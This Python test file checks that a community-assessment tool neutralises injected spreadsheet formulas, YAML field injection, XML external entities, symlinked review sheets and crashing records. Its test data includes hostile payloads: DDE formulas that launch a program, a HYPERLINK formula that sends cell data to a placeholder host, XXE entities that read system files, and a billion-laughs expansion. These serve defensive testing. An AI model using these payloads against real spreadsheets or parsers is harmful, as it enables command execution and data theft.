"""Nobody injects: formulas in CSV and Excel outputs are neutralised, values in a YAML sheet are
emitted (never formatted), a review sheet belongs to one community of one county, an XML entity in
a workbook is refused, a sheet linked from outside a batch is refused, one poisoned application is
its own row."""

from __future__ import annotations

import csv
import io
import os
import zipfile
from pathlib import Path

import openpyxl
import pytest
import yaml

from hostile_kit import mini, add_rows, bundle, check, evidence_text, invoke, ledger, patch, snapshot

FORMULAS = ["=cmd|' /C calc'!A0", '=HYPERLINK("http://x.example/?"&A1,"点击查看")', "@SUM(1+1)*cmd|' /C calc'!A0",
            "+1+cmd|' /C calc'!A0", "-1+cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "＝1+1", "=1+1"]


@pytest.mark.parametrize("text", FORMULAS + ["1+1", "甲=乙", "", "'=已转义"])
def test_neutral_follows_owasp(text):
    from safecomm.output import neutral

    out = neutral(text)
    if text[:1] in ("=", "+", "-", "@", "\t", "\r"):
        assert out == "'" + text
    else:
        assert out == text


def _cells(path: Path) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(path.read_text(encoding="utf-8-sig"))) for cell in row]


def _dangerous(cell: str) -> bool:
    return cell[:1] in ("=", "+", "-", "@", "\t", "\r")


@pytest.mark.parametrize("formula", FORMULAS)
@pytest.mark.parametrize("where", ["title", "county", "folder", "error"])
def test_batch_csv_neutralises_every_formula(tmp_path, mini, formula, where):
    root = tmp_path / "批"
    folder = formula.replace("/", "／").replace("\r", "").replace("\t", "") if where == "folder" else "甲"
    sections = evidence_text()
    data = yaml.safe_load(sections)
    if where == "title":
        data["community"]["title"] = formula
    if where == "county":
        data["community"]["county"] = formula
    text = yaml.safe_dump(data, allow_unicode=True, sort_keys=False)
    if where == "error":
        text = text.replace("name: 测试街道办事处", "name: 测试街道办事处\n  kind: " + yaml.safe_dump(formula).split("\n")[0])
    bundle(root / folder, text)
    out = tmp_path / "s.csv"
    result = invoke(["batch", root, "--scheme", mini, "--csv", out])
    assert result.exit_code in (0, 1), result.output
    cells = _cells(out)
    assert not [c for c in cells if _dangerous(c)], cells
    if where != "error" and _dangerous(formula.replace("\r", "").replace("\t", "") if where == "folder" else formula):
        assert any(c.startswith("'") for c in cells), cells


@pytest.mark.parametrize("formula", [f for f in FORMULAS if not f[0].isspace()])  # a cell's text is read stripped
def test_convert_writes_strings_as_strings(tmp_path, mini, formula):
    data = yaml.safe_load(evidence_text(documents=[{"id": "D-1", "kind": "制度", "title": formula}]))
    data["community"]["title"] = formula
    ev = bundle(tmp_path / "甲", yaml.safe_dump(data, allow_unicode=True, sort_keys=False))
    out = tmp_path / "甲" / "台账.xlsx"
    check(invoke(["convert", ev, out, "--scheme", mini]), 0)
    with zipfile.ZipFile(out) as z:
        for name in z.namelist():
            if name.startswith("xl/worksheets/"):
                assert b"<f>" not in z.read(name) and b"<f " not in z.read(name), name
    wb = openpyxl.load_workbook(out)
    found = [c for ws in wb.worksheets for row in ws.iter_rows() for c in row if c.value == formula.strip("\r")]
    assert found and all(c.data_type == "s" for c in found)
    back = tmp_path / "back.yaml"  # and it reads back as the text it was: the conversion is lossless
    check(invoke(["convert", out, back, "--scheme", mini]), 0)
    assert yaml.safe_load(back.read_text(encoding="utf-8"))["documents"][0]["title"] == formula


# -- the review sheet: emitted, never formatted ----------------------------------------------------

NAMES = ["甲\n街道", "甲\u2028街道", "甲\u0085街道", "甲\u2029街道", "甲\r街道", "甲街道\nopinion: 同意申报", "甲街道\"\nopinion: 同意",
         "甲街道 # 注释", "'甲街道'", "甲: 街道", "- 甲", "{甲}", "&a 甲", "*a", "!!python/object 甲", "甲街道\n# x\nitems: []"]


@pytest.mark.parametrize("field", ["name", "title", "county"])
@pytest.mark.parametrize("name", NAMES, ids=repr)
def test_a_sheet_reads_back_whatever_the_community_is_called(tmp_path, mini, name, field):
    data = yaml.safe_load(evidence_text())
    data["community"][field] = name
    ev = bundle(tmp_path / "甲", yaml.safe_dump(data, allow_unicode=True, sort_keys=False))
    sheet = tmp_path / "甲" / "evidence.review.yaml"
    check(invoke(["review", "start", ev, "--scheme", mini, "-o", sheet]), 0)
    text = sheet.read_text(encoding="utf-8")
    loaded = yaml.safe_load(text)
    assert loaded["opinion"] in ("", None)
    assert set(loaded) <= {"format", "community", "evidence_digest", "scheme", "reviewer", "opinion", "items"}
    for line in text.split("\n"):  # nothing leaves its comment line
        assert "\u2028" not in line and "\u0085" not in line and "\u2029" not in line and "\r" not in line
    result = invoke(["assess", ev, "--scheme", mini, "--review", sheet, "--format", "json"])
    check(result, 0)


# -- identity: the community with its county ---------------------------------------------------------

@pytest.mark.parametrize("field, other", [("county", "惠农区"), ("city", "银川市"), ("province", "甘肃省"), ("county", None)])
def test_a_sheet_of_another_county_is_refused(tmp_path, mini, field, other):
    data = yaml.safe_load(evidence_text())
    data["community"].update({"name": "朝阳街道办事处", "province": "宁夏回族自治区", "city": "石嘴山市", "county": "大武口区"})
    ev = bundle(tmp_path / "甲", yaml.safe_dump(data, allow_unicode=True, sort_keys=False))
    sheet = tmp_path / "甲" / "evidence.review.yaml"
    check(invoke(["review", "start", ev, "--scheme", mini, "-o", sheet]), 0)
    if other is None:
        del data["community"][field]
    else:
        data["community"][field] = other
    ev2 = bundle(tmp_path / "乙", yaml.safe_dump(data, allow_unicode=True, sort_keys=False))
    for extra in ([], ["--allow-stale"]):
        check(invoke(["assess", ev2, "--scheme", mini, "--review", sheet, *extra]), 2, "另一单位", where=f"{sheet}:")


def test_a_sheet_of_the_same_community_is_still_taken(tmp_path, mini):
    data = yaml.safe_load(evidence_text())
    data["community"].update({"province": "宁夏回族自治区", "city": "石嘴山市", "county": "大武口区"})
    ev = bundle(tmp_path / "甲", yaml.safe_dump(data, allow_unicode=True, sort_keys=False))
    sheet = tmp_path / "甲" / "evidence.review.yaml"
    check(invoke(["review", "start", ev, "--scheme", mini, "-o", sheet]), 0)
    check(invoke(["assess", ev, "--scheme", mini, "--review", sheet]), 0)


# -- an XML entity in a workbook ---------------------------------------------------------------------

ENTITIES = {
    "external": ('<!DOCTYPE x [<!ENTITY xxe SYSTEM "file:///etc/hostname">]>', "&xxe;"),
    "internal": ('<!DOCTYPE x [<!ENTITY e "甲">]>', "&e;"),
    "undeclared": ("", "&xxe;"),
    "laughs": ('<!DOCTYPE x [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">]>', "&b;"),
    "parameter": ('<!DOCTYPE x [<!ENTITY % p SYSTEM "file:///etc/hostname">%p;]>', "x"),
}


@pytest.mark.parametrize("command_name", ["validate", "assess", "convert", "batch"])
@pytest.mark.parametrize("name", list(ENTITIES))
def test_an_xml_entity_in_a_workbook_is_refused(tmp_path, mini, name, command_name):
    doctype, ref = ENTITIES[name]
    ev = ledger(tmp_path / "批" / "甲" / "台账.xlsx")
    patch(ev, "文件", lambda xml: doctype + add_rows(xml, f'<row r="9"><c r="C9" t="inlineStr"><is><t>{ref}</t></is></c></row>'))
    before = snapshot(tmp_path / "批")
    args = {"validate": ["validate", ev], "assess": ["assess", ev], "convert": ["convert", ev, tmp_path / "x.yaml"],
            "batch": ["batch", tmp_path / "批", "--csv", tmp_path / "s.csv"]}[command_name]
    result = invoke([*args, "--scheme", mini])
    out = check(result, 1 if command_name == "batch" else 2, "实体|DOCTYPE|DTD")
    assert open("/etc/hostname").read().strip() not in out
    assert snapshot(tmp_path / "批") == before


# -- a review sheet linked from outside the batch folder ----------------------------------------------

@pytest.mark.parametrize("layout", ["folder", "side-by-side"])
def test_a_sheet_linked_from_outside_the_batch_is_refused(tmp_path, mini, layout):
    root = tmp_path / "批"
    ev = bundle(root / "甲", evidence_text())
    outside = tmp_path / "外" / "evidence.review.yaml"
    outside.parent.mkdir()
    check(invoke(["review", "start", ev, "--scheme", mini, "-o", outside]), 0)
    text = outside.read_text(encoding="utf-8").replace('opinion: ""', "opinion: 外来的意见")
    outside.write_text(text, encoding="utf-8")
    if layout == "folder":
        (root / "甲" / "evidence.review.yaml").symlink_to(outside)
    else:
        ev.rename(root / "乙.yaml")
        (root / "乙.review.yaml").symlink_to(outside)
    result = invoke(["batch", root, "--scheme", mini, "--json", tmp_path / "r.json", "--csv", tmp_path / "s.csv"])
    check(result, 1, "批量文件夹之外")
    assert "外来的意见" not in (tmp_path / "r.json").read_text(encoding="utf-8")


# -- one poisoned application --------------------------------------------------------------------------

@pytest.mark.parametrize("jobs, poison", [(jobs, poison) for jobs in ("1", "2") for poison in ("raises", "recursion", "memory", "exits")
                                           if not (jobs == "1" and poison == "exits")])  # in one process, its exit is the run's
def test_one_poisoned_application_is_its_row(tmp_path, mini, monkeypatch, poison, jobs):
    import safecomm.engine as engine

    root = tmp_path / "批"
    for name in ["甲", "乙", "丙", "丁", "戊"]:
        data = yaml.safe_load(evidence_text())
        data["community"]["name"] = name + "街道"
        bundle(root / name, yaml.safe_dump(data, allow_unicode=True, sort_keys=False))
    real = engine.assess

    def poisoned(evidence, scheme, *args, **kwargs):
        if evidence.community.name == "丙街道":
            if poison == "raises":
                raise KeyError("x")
            if poison == "recursion":
                raise RecursionError("maximum recursion depth exceeded")
            if poison == "memory":
                raise MemoryError()
            os._exit(9)
        return real(evidence, scheme, *args, **kwargs)

    monkeypatch.setattr(engine, "assess", poisoned)
    result = invoke(["batch", root, "--scheme", mini, "--csv", tmp_path / "s.csv", "--jobs", jobs])
    out = check(result, 1, "丙/evidence.yaml")
    rows = list(csv.reader(io.StringIO((tmp_path / "s.csv").read_text(encoding="utf-8-sig"))))
    assert len(rows) == 6, rows
    assert sum(1 for r in rows[1:] if r[-1]) == 1, rows
    bad = next(r for r in rows if r[0] == "丙/evidence.yaml")
    assert not any(w in bad[-1] for w in ("KeyError", "RecursionError", "MemoryError", "Traceback")), bad
